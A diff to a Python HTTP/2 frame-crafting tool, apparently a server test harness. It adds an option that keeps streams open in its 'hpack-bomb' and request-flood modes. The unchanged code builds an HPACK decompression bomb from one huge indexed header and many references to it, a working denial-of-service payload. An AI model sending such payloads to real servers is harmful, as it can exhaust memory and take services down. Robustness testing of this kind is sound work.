@@ -350,6 +350,7 @@ def main():
     p.add_argument("--path", action="append", default=[], help="request path (repeatable)")
     p.add_argument("--gap", type=float, default=0.0, help="requests: seconds between two requests")
     p.add_argument("--until-close", action="store_true", help="requests: read until the server closes")
+    p.add_argument("--open", action="store_true", help="hpack-bomb, requests: HEADERS without END_STREAM (the request stays open)")
     p.add_argument("--timeout", type=float, default=20.0, help="seconds to wait for the outcome")
     args = p.parse_args()
     deadline = time.monotonic() + args.timeout
@@ -387,7 +388,7 @@ def main():
         bomb = block + literal("x-bomb", "a" * args.value_size, indexing=True) + bytes([0x80 | 62]) * args.refs
         first, rest = bomb[:16384], bomb[16384:]
         frames = []
-        frames.append(frame(HEADERS, END_STREAM | (0 if rest else END_HEADERS), 1, first))
+        frames.append(frame(HEADERS, (0 if args.open else END_STREAM) | (0 if rest else END_HEADERS), 1, first))
         while rest:
             part, rest = rest[:16384], rest[16384:]
             frames.append(frame(CONTINUATION, 0 if rest else END_HEADERS, 1, part))
@@ -456,7 +457,7 @@ def main():
             sid = 1 + 2 * i
             sids.append(sid)
             c.stream(sid)["path"] = path
-            c.queue(frame(HEADERS, END_HEADERS | END_STREAM, sid, request_block(path, args.authority)))
+            c.queue(frame(HEADERS, END_HEADERS | (0 if args.open else END_STREAM), sid, request_block(path, args.authority)))
             if args.gap > 0:
                 end = time.monotonic() + args.gap
                 while time.monotonic() < end and not c.closed:
